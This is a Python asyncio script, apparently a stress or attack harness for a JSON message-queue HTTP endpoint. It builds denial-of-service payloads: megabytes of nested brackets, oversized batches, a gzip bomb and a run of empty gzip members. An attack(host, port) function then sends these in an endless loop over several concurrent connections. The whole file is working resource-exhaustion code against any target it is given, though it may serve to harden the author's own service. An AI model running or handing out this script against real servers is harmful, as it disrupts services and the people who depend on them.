"""Sends what is small on the wire, or large and laborious: nests, text made of brackets, empty gzip members, bombs."""

import asyncio
import gzip

MIB = 1024 * 1024
CONNECTIONS = 4
NEST = b"[" * 60 + b"]" * 60


def batch(message: bytes, size_bytes: int) -> bytes:
    return b'{"queue":"hostile","messages":[' + b",".join([message] * (size_bytes // len(message))) + b"]}"


PLAIN = [
    b'{"queue":"hostile","messages":' + b"[" * 6 * MIB + b"]" * 6 * MIB + b"}",
    batch(b'{"body":[' + b",".join([NEST] * 8_000) + b"],}", 12 * MIB),
    batch(b'{"body":[' + b'"",' * 340_000 + b"[],[]," * 100 + b"1],}", 12 * MIB),
]
PACKED = [gzip.compress(b"", mtime=0) * (4 * MIB // 20), gzip.compress(b" " * 64 * MIB, mtime=0)]


def request(body: bytes, headers: bytes) -> bytes:
    head = (
        b"POST /messages HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%b\r\n"
    )
    return head % (len(body), headers) + body


async def attack(host: str, port: int) -> None:
    requests = [request(body, b"") for body in PLAIN]
    requests += [request(body, b"Content-Encoding: gzip\r\n") for body in PACKED]
    async with asyncio.TaskGroup() as group:
        for number in range(CONNECTIONS):
            group.create_task(_repeat(host, port, requests[number:] + requests[:number]))


async def _repeat(host: str, port: int, requests: list[bytes]) -> None:
    while True:
        for each in requests:
            reader, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(each)
                await reader.readuntil(b"\r\n\r\n")
            except (ConnectionError, asyncio.IncompleteReadError):
                await asyncio.sleep(0)  # refused before all of it was sent
            finally:
                writer.close()
